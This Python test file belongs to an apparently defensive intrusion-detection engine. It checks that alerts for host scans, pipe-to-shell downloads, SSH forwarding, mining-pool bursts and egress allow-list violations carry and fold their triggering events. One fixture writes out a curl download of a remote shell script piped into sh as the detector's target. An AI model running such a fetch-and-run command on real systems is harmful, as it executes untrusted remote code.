"""What an alert carries: every event that raised it (bounded), for correlations and for the
summaries of folded repeats."""

from __future__ import annotations

import functools

from api.events import Alert, AnyEvent, ConnectEvent, ExecEvent
from detect.egress import EGRESS_RULE_ID, EgressPolicy
from detect.engine import MAX_EVENTS, Engine
from detect.loader import load_paths, load_text
from detect.pack import builtin_rules
from detect.ruleset import RuleSet
from detect.testing import event_from_fields

MANY_HOSTS = "ec4d6c39-e8a0-4e7d-a988-e90093942371"
PIPE_TO_SHELL = "fd479298-96c8-4a47-b695-42375faefd26"
SSH_FORWARD = "83eda557-76da-4153-9e3e-eb8be922a108"


@functools.cache
def pack() -> RuleSet:
    return load_paths([builtin_rules()])


def connect(at: float, ip: str, pid: int = 900, port: int = 22) -> AnyEvent:
    fields = {"Image": "/usr/bin/python3.12", "ProcessId": pid, "DestinationIp": ip}
    return event_from_fields(
        "network_connection", {**fields, "DestinationPort": port, "Outcome": "success"}, at
    )


def fed(engine: Engine, events: list[AnyEvent], rule_id: str) -> list[Alert]:
    return [a for e in events for a in engine.feed(e) if a.rule_id == rule_id]


def test_many_hosts_lists_every_host_it_counted() -> None:
    hosts = [f"198.51.100.{20 + i}" for i in range(10)]
    # one host twice: the alert lists its latest connect, one event per host
    events = [connect(i * 0.1, ip) for i, ip in enumerate(hosts[:5])]
    events += [connect(0.55, hosts[0])]
    events += [connect(0.6 + i * 0.1, ip) for i, ip in enumerate(hosts[5:])]
    (alert,) = fed(Engine(pack()), events, MANY_HOSTS)
    assert len(alert.events) == 10 and alert.omitted == 0
    assert [e.daddr for e in alert.events] == [*hosts[1:5], hosts[0], *hosts[5:]]
    assert alert.events[4].time_ns == events[5].time_ns  # the latest of the repeated host
    assert alert.events[-1] is events[-1] and alert.time_ns == events[-1].time_ns


def test_pipe_to_shell_lists_the_download_and_the_shell() -> None:
    parent = {"ParentProcessId": 500, "ParentImage": "/usr/bin/bash", "ParentCommandLine": "bash"}
    curl = event_from_fields(
        "process_creation",
        {
            **parent,
            "Image": "/usr/bin/curl",
            "ProcessId": 501,
            "CommandLine": "curl -fsSL https://203.0.113.7/x.sh",
        },
        0.0,
    )
    sh = event_from_fields(
        "process_creation",
        {**parent, "Image": "/usr/bin/dash", "ProcessId": 502, "CommandLine": "sh"},
        0.004,
    )
    (alert,) = fed(Engine(pack()), [curl, sh], PIPE_TO_SHELL)
    assert [type(e) for e in alert.events] == [ExecEvent, ExecEvent]
    first, second = alert.events
    assert isinstance(first, ExecEvent) and isinstance(second, ExecEvent)
    assert (first.process.pid, second.process.pid) == (501, 502)
    assert first.argv == [b"curl", b"-fsSL", b"https://203.0.113.7/x.sh"]
    assert alert.process.pid == 502  # the process that completed it acts


def test_ordered_correlation_lists_its_steps_in_order() -> None:
    ssh = event_from_fields(
        "process_creation",
        {"ProcessId": 7000, "Image": "/usr/bin/ssh", "CommandLine": "ssh -F ./cfg gw"},
        0.0,
    )
    remote = connect(1.0, "203.0.113.10", pid=7000, port=2222)
    local = connect(30.0, "127.0.0.1", pid=7000)
    (alert,) = fed(Engine(pack()), [ssh, remote, remote, local], SSH_FORWARD)
    assert alert.events == [ssh, remote, local]


def test_ordered_window_keeps_no_entry_that_can_never_count() -> None:
    """An hour-long ordered window keeps a process's remote connects only once it has run
    an ssh client: a process that never does leaves no window behind."""
    engine = Engine(pack())
    for i in range(100):
        engine.feed(connect(i, f"203.0.113.{i % 50}", pid=800))
    assert engine._windows[SSH_FORWARD] == {}
    ssh = event_from_fields(
        "process_creation", {"ProcessId": 800, "Image": "/usr/bin/ssh", "CommandLine": "ssh gw"}
    )
    engine.feed(ssh)
    engine.feed(connect(200, "203.0.113.9", pid=800))
    (window,) = engine._windows[SSH_FORWARD].values()
    assert window.last() == connect(200, "203.0.113.9").time_ns


EVENT_COUNT = """
title: pool port
id: 00000000-0000-4000-8000-0000000000aa
name: pool_port
logsource: {product: linux, category: network_connection}
detection: {s: {DestinationPort: 3333}, condition: s}
level: high
---
title: burst
id: 00000000-0000-4000-8000-0000000000cc
correlation: {type: event_count, rules: [pool_port], group-by: [ProcessId], timespan: 60s,
              condition: {gte: 50}}
level: medium
"""


def rules(text: str) -> RuleSet:
    out = RuleSet()
    load_text(text, "t", out)
    assert out.refused == []
    return out


def test_a_correlation_over_many_events_keeps_the_first_and_the_latest() -> None:
    events = [connect(i * 0.1, f"198.51.100.{i}", port=3333) for i in range(50)]
    (alert,) = fed(Engine(rules(EVENT_COUNT)), events, "00000000-0000-4000-8000-0000000000cc")
    assert len(alert.events) == MAX_EVENTS == 32 and alert.omitted == 18
    assert alert.events == events[:16] + events[-16:]


def test_a_repeat_of_a_correlation_is_folded_with_its_events() -> None:
    """Two sweeps of 10 hosts within the fold window: an alert listing the first 10, a
    summary counting both and listing all 20."""
    first = [connect(i * 0.1, f"198.51.100.{i}") for i in range(10)]
    second = [connect(2 + i * 0.1, f"198.51.100.{100 + i}") for i in range(10)]
    engine = Engine(pack())
    (alert,) = fed(engine, [*first, *second], MANY_HOSTS)
    assert alert.events == first
    (summary,) = [a for a in engine.flush() if a.rule_id == MANY_HOSTS]
    assert (summary.count, summary.folds, summary.omitted) == (2, alert.alert_id, 0)
    assert summary.events == first + second


def test_fifty_repeats_fold_into_a_summary_of_the_first_and_the_latest() -> None:
    engine = Engine(rules(EVENT_COUNT.split("---", maxsplit=1)[0]), fold_seconds=60)
    events = [connect(i * 0.5, "198.51.100.1", port=3333) for i in range(50)]
    (alert,) = fed(engine, events, "00000000-0000-4000-8000-0000000000aa")
    assert alert.events == events[:1] and alert.omitted == 0
    (summary,) = engine.expire(events[0].time_ns + 60 * 10**9)
    assert (summary.count, summary.repeat, summary.folds) == (50, True, alert.alert_id)
    assert len(summary.events) == 32 and summary.omitted == 18
    assert summary.events == events[:16] + events[-16:]
    assert summary.time_ns == events[-1].time_ns


def test_an_egress_summary_names_only_destinations_it_lists() -> None:
    engine = Engine(RuleSet(), EgressPolicy.parse(["192.0.2.0/24"]))
    two = [connect(0, "203.0.113.1", port=443), connect(1, "203.0.113.2", port=80)]
    (alert,) = [a for e in two for a in engine.feed(e)]
    assert alert.description == "tcp 203.0.113.1:443 is not on the allow-list"
    (summary,) = engine.flush()
    assert summary.rule_id == EGRESS_RULE_ID and summary.events == two
    assert (
        summary.description == "tcp 203.0.113.1:443, tcp 203.0.113.2:80 are not on the allow-list"
    )

    many = [connect(i, f"198.51.100.{i}", port=443) for i in range(40)]
    for event in many:
        engine.feed(event)
    (summary,) = engine.flush()
    listed = [e.daddr for e in summary.events if isinstance(e, ConnectEvent)]
    assert listed == [f"198.51.100.{i}" for i in [*range(16), *range(24, 40)]]
    assert summary.omitted == 8
    assert summary.description == (
        "tcp 198.51.100.0:443, tcp 198.51.100.1:443, tcp 198.51.100.2:443 and 29 more are "
        "not on the allow-list (8 more connects not listed)"
    )
